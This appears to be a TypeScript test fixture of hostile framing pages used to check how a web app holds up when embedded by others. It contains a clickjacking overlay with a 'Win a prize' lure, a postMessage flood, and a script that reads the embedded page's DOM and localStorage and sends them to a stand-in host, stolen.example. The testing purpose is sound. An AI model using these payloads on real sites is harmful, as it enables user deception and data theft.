// Pages of somebody else's around ours, or in front of it: what they show of ours, and what they do to it.

export interface HostileFrame {
  name: string;
  /** The page around: OURS is our page's address without anything behind the #, PLAYED a run to embed, PROJECT a shared project. */
  page: string;
  /** What stands there of ours: a sentence that leads to a tab of its own, one run to be played, or nothing at all. */
  is: Ours;
  /** What the page around does then, and what stands there afterwards. */
  later?: { does: string; is: Ours };
}
export type Ours = 'still' | 'embedded' | 'nothing';

const COVER =
  '<style>iframe { opacity: 0.01; width: 900px; height: 700px; position: fixed } b { position: fixed; left: 300px; top: 300px }</style><b>Win a prize</b>';
const frame = (src: string, more = '') => `<iframe width="900" height="700" ${more} src="${src}"></iframe>`;
const script = (code: string) =>
  `<script>const ours = document.querySelector('iframe'); ours.onload = () => { const w = ours.contentWindow; ${code} }</script>`;

export const frames: readonly HostileFrame[] = [
  { name: 'shows the whole page, unseen, over a prize', page: `${COVER}${frame('OURS#pass-through')}`, is: 'still' },
  { name: 'shows a shared project over a prize', page: `${COVER}${frame('OURS#PROJECT')}`, is: 'still' },
  {
    name: 'shows the page in a frame within a frame',
    page: '<iframe width="900" height="700" srcdoc="<iframe width=800 height=600 src=OURS></iframe>"></iframe>',
    is: 'still',
  },
  {
    name: 'shows the page in a sandbox that takes its origin',
    page: frame('OURS#pass-through', 'sandbox="allow-scripts"'),
    is: 'nothing',
  },
  {
    name: 'leads an embedded run on to the whole page',
    page: frame('OURS#PLAYED'),
    is: 'embedded',
    later: { does: "document.querySelector('iframe').src = 'OURS#pass-through'", is: 'still' },
  },
  {
    name: 'shouts 100,000 messages at an embedded run',
    page: `${frame('OURS#PLAYED')}${script("for (let n = 0; n < 100000; n += 1) w.postMessage({ kind: 'answered', id: n, json: '[]' }, '*')")}`,
    is: 'embedded',
  },
  {
    name: 'reads what an embedded run can see',
    page: `${frame('OURS#PLAYED')}${script("for (const read of [() => w.document.body.innerHTML, () => w.localStorage.getItem('onionskin'), () => w.name.length && w.harmed]) try { const got = read(); if (got) fetch('http://stolen.example/' + got) } catch {}")}`,
    is: 'embedded',
  },
];
